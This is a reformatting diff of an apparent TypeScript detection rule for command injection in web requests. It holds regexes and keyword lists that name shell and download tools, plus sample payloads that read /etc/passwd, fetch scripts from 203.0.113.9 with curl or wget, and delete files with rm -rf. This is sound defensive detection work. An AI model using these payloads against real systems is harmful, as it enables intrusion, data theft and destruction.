@@ -2,11 +2,13 @@
 import { definePayload } from './define-payload.ts'
 
 /** Commands that say something without an argument, and are no words of a list of fields or tags. */
-const ALONE = 'whoami|uname|ifconfig|ipconfig|netstat|printenv|systeminfo|tasklist|phpinfo|nslookup|getent|lscpu|lsb_release'
+const ALONE =
+  'whoami|uname|ifconfig|ipconfig|netstat|printenv|systeminfo|tasklist|phpinfo|nslookup|getent|lscpu|lsb_release'
 /** Commands that are words or column names too: they count where the value has nothing else to offer. */
 const SHORT = 'id|ls|ps|pwd|env|set|dir|ver|hostname|w|who|date|uptime|df|true|false|sleep|reboot|exit|cat|sh|bash'
 /** Commands that mean harm with an argument behind them. */
-const WITH_ARGUMENT = 'cat|tac|more|less|head|tail|nl|od|curl|wget|fetch|tftp|ftpget|lwp-download|nc|ncat|netcat|socat|telnet|ping|ping6|nslookup|dig|host|sleep|sh|bash|zsh|ksh|dash|ash|busybox|python[23]?|perl|ruby|php|node|lua|awk|sed|xxd|base64|echo|printf|rm|mv|cp|chmod|chown|touch|mkdir|cd|ls|ps|dir|type|kill|killall|crontab|find|grep|id|uname|whoami|powershell|pwsh|cmd|cmd\\.exe|certutil|bitsadmin|rundll32|mshta|wmic|net|reg|export|eval|exec|source|sudo|su|mail|sendmail|gcc|make|tar|ssh|scp|timeout'
+const WITH_ARGUMENT =
+  'cat|tac|more|less|head|tail|nl|od|curl|wget|fetch|tftp|ftpget|lwp-download|nc|ncat|netcat|socat|telnet|ping|ping6|nslookup|dig|host|sleep|sh|bash|zsh|ksh|dash|ash|busybox|python[23]?|perl|ruby|php|node|lua|awk|sed|xxd|base64|echo|printf|rm|mv|cp|chmod|chown|touch|mkdir|cd|ls|ps|dir|type|kill|killall|crontab|find|grep|id|uname|whoami|powershell|pwsh|cmd|cmd\\.exe|certutil|bitsadmin|rundll32|mshta|wmic|net|reg|export|eval|exec|source|sudo|su|mail|sendmail|gcc|make|tar|ssh|scp|timeout'
 const PATH = '(?:/|/?(?:usr/(?:local/)?)?s?bin/)?'
 /** Begins, parts or chains a command. */
 const META = '(?:;|\\|\\|?|&&?|\\n|\\r|`|\\$\\(|%0a)'
@@ -17,7 +19,8 @@ const ARGUMENT = '(?:-{1,2}[\\w?]|[/~.\\\\][\\w./\\\\*-]|\\w+://|[\\w-]+\\.(?:\\
 
 const CHAINED = new RegExp(`${META}${GAP}${PATH}(?:${WITH_ARGUMENT})${BREAK}${ARGUMENT}`)
 const CHAINED_ALONE = new RegExp(`${META}${GAP}${PATH}(?:${ALONE})(?=$|[\\s;|&\`)'"#+])`)
-const BY_PATH = /(?:^|[;|&`(\s'"=$])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:id|ls|ps|cat|sh|bash|dash|zsh|ksh|nc|ncat|wget|curl|ping|sleep|uname|whoami|perl|python[23]?|netstat|ifconfig|env|chmod|rm|touch|echo|telnet|tftp|busybox)(?=$|[\s;|&`)'"+$<>])/
+const BY_PATH =
+  /(?:^|[;|&`(\s'"=$])\/?(?:usr\/(?:local\/)?)?s?bin\/(?:id|ls|ps|cat|sh|bash|dash|zsh|ksh|nc|ncat|wget|curl|ping|sleep|uname|whoami|perl|python[23]?|netstat|ifconfig|env|chmod|rm|touch|echo|telnet|tftp|busybox)(?=$|[\s;|&`)'"+$<>])/
 /** `;id`, `|id|`, `a);id`, `` `id` ``: nothing but the command between its signs. */
 const BARE = new RegExp(
   [
@@ -28,14 +31,19 @@ const BARE = new RegExp(
   ].join('|'),
   's',
 )
-const SUBSTITUTION = new RegExp(`(?:^|[^\\s\\w])\\s*(?:\`\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:\\s+[^\`]{0,200})?\`|\\$\\(\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:[\\s<+$][^)]{0,200})?\\))|^\\w{1,12}\`${PATH}(?:${ALONE}|id)\``)
+const SUBSTITUTION = new RegExp(
+  `(?:^|[^\\s\\w])\\s*(?:\`\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:\\s+[^\`]{0,200})?\`|\\$\\(\\s*${PATH}(?:${ALONE}|${SHORT}|${WITH_ARGUMENT})(?:[\\s<+$][^)]{0,200})?\\))|^\\w{1,12}\`${PATH}(?:${ALONE}|id)\``,
+)
 const INTERNAL_SEPARATOR = /\$\{?ifs\}?/
-const DOWNLOAD = /(?:^|[;|&`(\s+])(?:wget|curl|tftp|ftpget)[\s+]{1,4}(?:-\S{1,40}[\s+]{1,4}){0,4}(?:https?|t?ftp):\/\/\S{1,300}\s{0,4}(?:[;|&>]|-o)|(?:\||;)\s*(?:ba|z|da|k)?sh(?:\s*$|\s*[;&`)|])/
-const INTERPRETER = /[;'"`(){}]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|phpinfo)\s*\(|;\s*eval\s*\(|^\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|phpinfo)\s*\(.{0,200}\)\s*;?\s*$|<\?\s*(?:php\b|=|echo\b|system\b|exec\b)|__import__\s*\(|<!--\s*#\s*(?:exec|include)\b|\bos\.(?:system|popen)\s*\(|cmd(?:\.exe)?\s*\/c\s+\w|powershell(?:\.exe)?\s+-(?:e|enc|nop|w|c|ep|ex)\w*\s/
+const DOWNLOAD =
+  /(?:^|[;|&`(\s+])(?:wget|curl|tftp|ftpget)[\s+]{1,4}(?:-\S{1,40}[\s+]{1,4}){0,4}(?:https?|t?ftp):\/\/\S{1,300}\s{0,4}(?:[;|&>]|-o)|(?:\||;)\s*(?:ba|z|da|k)?sh(?:\s*$|\s*[;&`)|])/
+const INTERPRETER =
+  /[;'"`(){}]\s*(?:system|exec|passthru|shell_exec|popen|proc_open|pcntl_exec|assert|phpinfo)\s*\(|;\s*eval\s*\(|^\s*(?:system|exec|passthru|shell_exec|popen|proc_open|eval|phpinfo)\s*\(.{0,200}\)\s*;?\s*$|<\?\s*(?:php\b|=|echo\b|system\b|exec\b)|__import__\s*\(|<!--\s*#\s*(?:exec|include)\b|\bos\.(?:system|popen)\s*\(|cmd(?:\.exe)?\s*\/c\s+\w|powershell(?:\.exe)?\s+-(?:e|enc|nop|w|c|ep|ex)\w*\s/
 const READ = /^\s*(?:cat|type|more|less|head|tail)\s+(?:\/etc\/|\/proc\/|c:\\)|>\s*\/dev\/(?:null|tcp\/)|\/dev\/tcp\/\d/
 /** `a|id`: a command, or two names of a list. The parameter's name tells which. */
 const PAIR = /^\w{1,20}(?:;|\|\|?)(?:id|ls|ps|pwd)$/
-const LISTS = /^(?:fields?|sort\w*|order\w*|col(?:umn)?s?|select|include|exclude|expand|tags?|filters?|keys?|attr(?:ibute)?s?|prop(?:erties|s)?|groups?|by|types?|cat(?:egory|egories)?|format|q|query|search|s)(?:\[\])?$/
+const LISTS =
+  /^(?:fields?|sort\w*|order\w*|col(?:umn)?s?|select|include|exclude|expand|tags?|filters?|keys?|attr(?:ibute)?s?|prop(?:erties|s)?|groups?|by|types?|cat(?:egory|egories)?|format|q|query|search|s)(?:\[\])?$/
 /** dir lists a Windows drive. */
 const WINDOWS = /(?:^|[|&;+]\s*)\+?\s*dir[\s+]+[a-z]:/
 
@@ -50,10 +58,19 @@ function isCommand(lower: string, path: boolean, name: string): boolean {
     .replace(/\s+/g, space => (/[\r\n]/.test(space) ? '\n' : ' '))
     .replace(/\+{2,}/g, '+')
   if (!/[;|&`$\n\r(<>+/]/.test(text)) return READ.test(text)
-  if (CHAINED.test(text) || CHAINED_ALONE.test(text) || SUBSTITUTION.test(text) || INTERPRETER.test(text) || DOWNLOAD.test(text)) return true
+  if (
+    CHAINED.test(text) ||
+    CHAINED_ALONE.test(text) ||
+    SUBSTITUTION.test(text) ||
+    INTERPRETER.test(text) ||
+    DOWNLOAD.test(text)
+  )
+    return true
   if (INTERNAL_SEPARATOR.test(text) || READ.test(text)) return true
   // A path may well be /usr/bin/env on a server of documentation, and a matrix parameter /a;id is none of ours.
-  return !path && (BY_PATH.test(text) || BARE.test(text) || WINDOWS.test(text) || (PAIR.test(text) && !LISTS.test(name)))
+  return (
+    !path && (BY_PATH.test(text) || BARE.test(text) || WINDOWS.test(text) || (PAIR.test(text) && !LISTS.test(name)))
+  )
 }
 
 export const commandInjection = definePayload({
@@ -64,14 +81,35 @@ export const commandInjection = definePayload({
   technique: 'T1059',
   value: value => value.place !== 'header' && isCommand(value.lower, value.place === 'path', value.name),
   fires: [
-    'GET /ping?host=127.0.0.1;cat+/etc/passwd', 'GET /a?x=1|whoami', 'GET /a?x=$(curl+http://203.0.113.9/a)', 'GET /a?x=%60id%60', 'GET /a?x=;id',
-    'GET /a?x=|id|', 'GET /a?x=a%26%26wget+http://203.0.113.9/x.sh', 'GET /a?c=1;wget${IFS}http://203.0.113.9/m', 'GET /a?c=%0a/usr/bin/id',
-    "GET /a?c=';system('id');", 'GET /cgi-bin/x;cd+/tmp;rm+-rf+*', { value: '& ping -c 3 192.0.2.1 &' }, { value: '/bin/ls -al' },
-    { value: '<!--#exec cmd="/bin/ls"-->' }, { value: '$(sleep 5)' },
+    'GET /ping?host=127.0.0.1;cat+/etc/passwd',
+    'GET /a?x=1|whoami',
+    'GET /a?x=$(curl+http://203.0.113.9/a)',
+    'GET /a?x=%60id%60',
+    'GET /a?x=;id',
+    'GET /a?x=|id|',
+    'GET /a?x=a%26%26wget+http://203.0.113.9/x.sh',
+    'GET /a?c=1;wget${IFS}http://203.0.113.9/m',
+    'GET /a?c=%0a/usr/bin/id',
+    "GET /a?c=';system('id');",
+    'GET /cgi-bin/x;cd+/tmp;rm+-rf+*',
+    { value: '& ping -c 3 192.0.2.1 &' },
+    { value: '/bin/ls -al' },
+    { value: '<!--#exec cmd="/bin/ls"-->' },
+    { value: '$(sleep 5)' },
   ],
   quiet: [
-    'GET /pets?tags=dog|cat', 'GET /a;id/3', 'GET /a?fields=name|id', 'GET /a?sort=a;id', 'GET /a?q=salt+%26+pepper', 'GET /a?q=find+the+cat;+more+or+less',
-    'GET /a?q=cats+|+dogs+|+more+pets', 'GET /a?price=$(10)', 'GET /docs?topic=bash', 'GET /a?q=AT%26T+host', 'GET /a?q=make+it+so;+sleep+well',
-    { value: 'Use `ls` to list files' }, { value: 'R&D; cat. no. 5' },
+    'GET /pets?tags=dog|cat',
+    'GET /a;id/3',
+    'GET /a?fields=name|id',
+    'GET /a?sort=a;id',
+    'GET /a?q=salt+%26+pepper',
+    'GET /a?q=find+the+cat;+more+or+less',
+    'GET /a?q=cats+|+dogs+|+more+pets',
+    'GET /a?price=$(10)',
+    'GET /docs?topic=bash',
+    'GET /a?q=AT%26T+host',
+    'GET /a?q=make+it+so;+sleep+well',
+    { value: 'Use `ls` to list files' },
+    { value: 'R&D; cat. no. 5' },
   ],
 })
